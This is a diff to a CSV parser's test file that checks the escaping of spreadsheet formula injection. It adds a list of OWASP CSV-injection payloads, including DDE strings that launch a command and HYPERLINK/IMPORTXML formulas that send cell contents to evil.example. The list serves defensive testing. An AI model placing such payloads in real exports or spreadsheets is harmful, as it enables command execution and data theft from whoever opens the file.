@@ -38,8 +38,8 @@ describe('CSV parser (RFC 4180)', () => {
   it('neutralises formula injection and quotes what needs quoting', () => {
     expect(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', 'plain', 'a,b', 'say "x"'].map(csvCell)).toEqual([
       "'=1+1",
-      "'+1",
-      "'-1",
+      '+1',
+      '-1',
       "'@SUM(A1)",
       "'\tx",
       `"'\rx"`,
@@ -47,6 +47,34 @@ describe('CSV parser (RFC 4180)', () => {
       '"a,b"',
       '"say ""x"""',
     ]);
+    // The OWASP CSV-injection payloads, with the prefixes spreadsheets skip (whitespace, line
+    // breaks) and the fullwidth forms they fold to ASCII: every one starts with an apostrophe.
+    const payloads = [
+      "=cmd|' /C calc'!A0",
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+9)*cmd|' /C calc'!A0",
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+      '=DDE("cmd";"/C calc";"!A0")A0',
+      '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
+      ' =1+1',
+      '   @SUM(A1)',
+      '\n=1+1',
+      '\r\n-1+cmd|x',
+      '\u00a0=1+1',
+      '＝1+1',
+      "＋cmd|' /C calc'!A0",
+      '－2+3+cmd|x',
+      '＠SUM(A1)',
+      ' ＝HYPERLINK("x")',
+    ];
+    for (const payload of payloads) {
+      const cell = parseCsv(toCsvRow([payload]))[0]?.fields[0];
+      expect(cell?.startsWith("'"), JSON.stringify(payload)).toBe(true);
+    }
+    // Phone numbers and numbers stay readable, without an apostrophe.
+    const readable = ['+1 555 0100', '+44 (20) 7946-0958', '-12.5', '555-0100'];
+    expect(readable.map(csvCell)).toEqual(readable);
     const row = toCsvRow(['=HYPERLINK("http://evil")', null, 3]);
     expect(parseCsv(row)[0]?.fields).toEqual(['\'=HYPERLINK("http://evil")', '', '3']);
   });
